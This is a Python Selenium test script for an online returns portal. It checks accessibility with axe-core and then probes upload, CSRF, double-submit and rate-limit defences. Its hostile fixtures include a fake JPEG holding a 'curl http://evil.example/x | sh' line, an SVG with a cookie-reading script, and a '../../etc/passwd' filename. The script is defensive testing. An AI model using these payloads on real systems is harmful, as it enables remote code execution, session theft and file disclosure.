"""Drives the return portal in Debian's headless chromium (selenium + chromedriver) and checks every page with
axe-core; then the hostile cases over plain HTTP. Prints one JSON document with what it saw; the Swift test judges it.

argv[1]: JSON {"base": url, "order": id, "email": ..., "postalCode": ..., "artefacts": dir, "files": {name: path}}
"""
import http.client
import json
import os
import re
import sys
import time
import urllib.parse
import uuid

from selenium import webdriver
from selenium.webdriver.chrome.service import Service
from selenium.webdriver.common.by import By
from selenium.webdriver.support import expected_conditions
from selenium.webdriver.support.ui import Select, WebDriverWait
import traceback


def report_failure(kind, value, trace):
    """An exception ends the run with its traceback on stdout, where the Swift test shows it (stderr is not kept)."""
    print(json.dumps({"error": "".join(traceback.format_exception(kind, value, trace))[-3000:]}), flush=True)


sys.excepthook = report_failure
from selenium_axe_python import Axe

from PIL import Image

args = json.loads(sys.argv[1])
# The test photos: a real JPEG carrying a GPS position (Pillow), a script renamed .jpg, an SVG with a script, one over the 10 MiB limit.
files = {}
work = os.path.join(args["artefacts"], "files")
os.makedirs(work, exist_ok=True)
files["gps"] = os.path.join(work, "tent-with-gps.jpg")
image = Image.new("RGB", (64, 48), (200, 120, 40))
exif = image.getexif()
exif[0x0110] = "TestCam"
exif[0x8825] = {1: "N", 2: (52.0, 31.0, 12.0), 3: "E", 4: (13.0, 24.0, 36.0)}
image.save(files["gps"], exif=exif)
files["script"] = os.path.join(work, "holiday.jpg")
with open(files["script"], "w") as f:
    f.write("#!/bin/sh\ncurl http://evil.example/x | sh\n")
files["svg"] = os.path.join(work, "photo.svg")
with open(files["svg"], "w") as f:
    f.write('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>')
files["huge"] = os.path.join(work, "huge.jpg")
with open(files["huge"], "wb") as f:
    # Just over the 10 MiB a photo may have: the rule is the same for 50 MiB, but a debug build's multipart
    # parser needs about 36 s for 50 MiB on this machine (release: 0.2 s), over a minute when CI is busy.
    f.write(b"\xff\xd8\xff\xe0" + b"\0" * (10 * 1024 * 1024 + 64 * 1024))
args["files"] = files
base = args["base"]
host, port = urllib.parse.urlparse(base).hostname, urllib.parse.urlparse(base).port
artefacts = args["artefacts"]
os.makedirs(artefacts, exist_ok=True)
out = {"pages": [], "axe": []}


def axe_check(driver, name):
    axe = Axe(driver)
    axe.inject()
    results = axe.run()
    bad = [{"id": v["id"], "impact": v["impact"], "nodes": len(v["nodes"])} for v in results["violations"]
           if v.get("impact") in ("serious", "critical")]
    out["axe"].append({"page": name, "serious": bad, "all": [v["id"] for v in results["violations"]]})
    driver.save_screenshot(os.path.join(artefacts, f"{len(out['pages']):02d}-{name}.png"))
    out["pages"].append(name)


def browser():
    options = webdriver.ChromeOptions()
    options.binary_location = "/usr/bin/chromium"
    for flag in ("--headless=new", "--no-sandbox", "--disable-dev-shm-usage", "--disable-gpu", "--window-size=1024,1400"):
        options.add_argument(flag)
    return webdriver.Chrome(service=Service("/usr/bin/chromedriver"), options=options)


def click_and_wait(driver, selector):
    """Submits and waits until the next page replaced this one."""
    button = driver.find_element(By.CSS_SELECTOR, selector)
    button.click()
    WebDriverWait(driver, 90).until(expected_conditions.staleness_of(button))
    WebDriverWait(driver, 90).until(lambda d: d.execute_script("return document.readyState") == "complete")


def error_text(driver):
    found = driver.find_elements(By.ID, "error")
    return found[0].text if found else None


def lookup(driver, order, email=None, postal=None):
    driver.find_element(By.ID, "order").clear()
    driver.find_element(By.ID, "order").send_keys(order)
    if email:
        driver.find_element(By.ID, "email").send_keys(email)
    if postal:
        driver.find_element(By.ID, "postalCode").send_keys(postal)
    click_and_wait(driver, "form button[type=submit]")


def flow(language, contact):
    driver = browser()
    result = {}
    try:
        driver.get(f"{base}/?lang={language}")
        result["htmlLang"] = driver.find_element(By.TAG_NAME, "html").get_attribute("lang")
        result["lookupTitle"] = driver.find_element(By.TAG_NAME, "h1").text
        axe_check(driver, f"{language}-lookup")
        lookup(driver, args["order"], email="wrong@example.org")
        result["wrongPair"] = error_text(driver)
        axe_check(driver, f"{language}-lookup-refused")
        lookup(driver, "NO-SUCH-ORDER", email=args["email"])
        result["unknownOrder"] = error_text(driver)
        lookup(driver, args["order"], **contact)
        result["orderURL"] = driver.current_url
        result["orderTitle"] = driver.find_element(By.TAG_NAME, "h1").text
        axe_check(driver, f"{language}-order")
        Select(driver.find_element(By.ID, "qty-1")).select_by_value("1")
        Select(driver.find_element(By.ID, "reason-1")).select_by_value("wrong-size")
        driver.find_element(By.ID, "comment").send_keys("Zu klein / too small")
        driver.find_element(By.ID, "photos").send_keys(args["files"]["gps"])
        driver.save_screenshot(os.path.join(artefacts, f"{len(out['pages']):02d}-{language}-order-filled.png"))
        click_and_wait(driver, "form button[type=submit]")
        result["requestURL"] = driver.current_url
        rma = driver.find_elements(By.ID, "rma")
        result["rma"] = rma[0].text if rma else None
        result["status"] = driver.find_element(By.CSS_SELECTOR, "main").text
        axe_check(driver, f"{language}-request")
        link = driver.find_elements(By.ID, "label")
        if link:
            cookies = "; ".join(f"{c['name']}={c['value']}" for c in driver.get_cookies())
            connection = http.client.HTTPConnection(host, port, timeout=30)
            connection.request("GET", urllib.parse.urlparse(link[0].get_attribute("href")).path, headers={"Cookie": cookies})
            response = connection.getresponse()
            body = response.read()
            path = os.path.join(artefacts, f"{language}-label.pdf")
            with open(path, "wb") as f:
                f.write(body)
            result["label"] = {"status": response.status, "type": response.getheader("Content-Type"), "path": path}
        result["cookie"] = [{"name": c["name"], "httpOnly": c.get("httpOnly"), "sameSite": c.get("sameSite")}
                            for c in driver.get_cookies() if c["name"] == "oms_returns_session"]
    finally:
        driver.quit()
    return result


def request(method, path, body=None, headers=None, source="127.0.0.1", timeout=60):
    connection = http.client.HTTPConnection(host, port, timeout=timeout, source_address=(source, 0))
    connection.request(method, path, body=body, headers=headers or {})
    response = connection.getresponse()
    data = response.read()
    return response.status, response.getheaders(), data.decode("utf-8", "replace")


def session_cookie(headers):
    for name, value in headers:
        if name.lower() == "set-cookie" and value.startswith("oms_returns_session="):
            return value.split(";")[0]
    return ""


def location(headers):
    return next((value for name, value in headers if name.lower() == "location"), None)


def session(source="127.0.0.1"):
    status, headers, text = request("GET", "/?lang=en", source=source)
    cookie = session_cookie(headers)
    csrf = re.search(r'name="csrf" value="([^"]+)"', text).group(1)
    return cookie, csrf


def signed_in(contact):
    cookie, csrf = session()
    form = urllib.parse.urlencode({"csrf": csrf, "order": args["order"], **contact})
    status, headers, _ = request("POST", "/lookup", form, {"Cookie": cookie, "Content-Type": "application/x-www-form-urlencoded"})
    cookie = session_cookie(headers)
    status, headers, text = request("GET", "/order", headers={"Cookie": cookie})
    return cookie, re.search(r'name="csrf" value="([^"]+)"', text).group(1), re.search(r'name="submission" value="([^"]+)"', text).group(1)


def multipart(fields, files):
    boundary = uuid.uuid4().hex
    chunks = []
    for name, value in fields.items():
        chunks.append(f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{value}\r\n'.encode())
    for filename, content, content_type in files:
        chunks.append(f'--{boundary}\r\nContent-Disposition: form-data; name="photos"; filename="{filename}"\r\n'
                      f'Content-Type: {content_type}\r\n\r\n'.encode() + content + b"\r\n")
    chunks.append(f"--{boundary}--\r\n".encode())
    return b"".join(chunks), f"multipart/form-data; boundary={boundary}"


out["de"] = flow("de", {"email": args["email"].upper()})
out["en"] = flow("en", {"postal": args["postalCode"]})

# Hostile uploads: each refused with a message, nothing stored.
cookie, csrf, submission = signed_in({"email": args["email"]})
hostile = {}
for label, (filename, path, content_type) in {
    "script-as-jpg": ("holiday.jpg", args["files"]["script"], "image/jpeg"),
    "svg-with-script": ("photo.svg", args["files"]["svg"], "image/svg+xml"),
    "over-10-mib": ("huge.jpg", args["files"]["huge"], "image/jpeg"),
    "passwd-name": ("../../etc/passwd", args["files"]["script"], "image/jpeg"),
}.items():
    with open(path, "rb") as f:
        content = f.read()
    body, content_type_header = multipart({"csrf": csrf, "submission": submission, "qty-2": "1", "reason-2": "changed-mind"},
                                          [(filename, content, content_type)])
    started = time.monotonic()
    status, _, text = request("POST", "/order/return", body, {"Cookie": cookie, "Content-Type": content_type_header}, timeout=180)
    message = re.search(r'id="error">([^<]*)<', text)
    hostile[label] = {"status": status, "message": message.group(1) if message else None,
                      "seconds": round(time.monotonic() - started, 2)}
out["hostile"] = hostile

# A form without its token is refused; the same form sent twice is one return.
body, content_type_header = multipart({"submission": submission, "qty-2": "1", "reason-2": "changed-mind"}, [])
out["noToken"] = request("POST", "/order/return", body, {"Cookie": cookie, "Content-Type": content_type_header})[0]
status, _, _ = request("POST", "/lookup", urllib.parse.urlencode({"order": args["order"], "email": args["email"]}),
                       {"Cookie": session()[0], "Content-Type": "application/x-www-form-urlencoded"})
out["lookupNoToken"] = status
body, content_type_header = multipart({"csrf": csrf, "submission": submission, "qty-2": "1", "reason-2": "changed-mind"}, [])
first = request("POST", "/order/return", body, {"Cookie": cookie, "Content-Type": content_type_header})
second = request("POST", "/order/return", body, {"Cookie": cookie, "Content-Type": content_type_header})
out["doubleSubmit"] = [first[0], location(first[1]), second[0], location(second[1])]

# Rate limits: the 11th lookup of a client in a minute; the 21st of an order in an hour (from fresh clients).
statuses = []
cookie, csrf = session("127.0.0.2")
for attempt in range(11):
    form = urllib.parse.urlencode({"csrf": csrf, "order": "RL-ORDER", "email": f"guess{attempt}@example.org"})
    statuses.append(request("POST", "/lookup", form, {"Cookie": cookie, "Content-Type": "application/x-www-form-urlencoded"}, "127.0.0.2")[0])
out["perClient"] = statuses
statuses = []
for attempt in range(21):
    source = f"127.0.0.{3 + attempt // 7}"
    cookie, csrf = session(source)
    form = urllib.parse.urlencode({"csrf": csrf, "order": "RL-ORDER-2", "email": f"guess{attempt}@example.org"})
    statuses.append(request("POST", "/lookup", form, {"Cookie": cookie, "Content-Type": "application/x-www-form-urlencoded"}, source)[0])
out["perOrder"] = statuses
# What was stored: each photo decoded by Pillow, with or without a GPS block.
stored = []
for name in sorted(os.listdir(args["uploads"])):
    path = os.path.join(args["uploads"], name)
    try:
        image = Image.open(path)
        stored.append({"name": name, "format": image.format, "gps": len(image.getexif().get_ifd(0x8825)), "size": list(image.size)})
    except Exception as error:  # noqa: BLE001 - reported, the test fails on it
        stored.append({"name": name, "error": str(error)})
out["stored"] = stored
print(json.dumps(out))
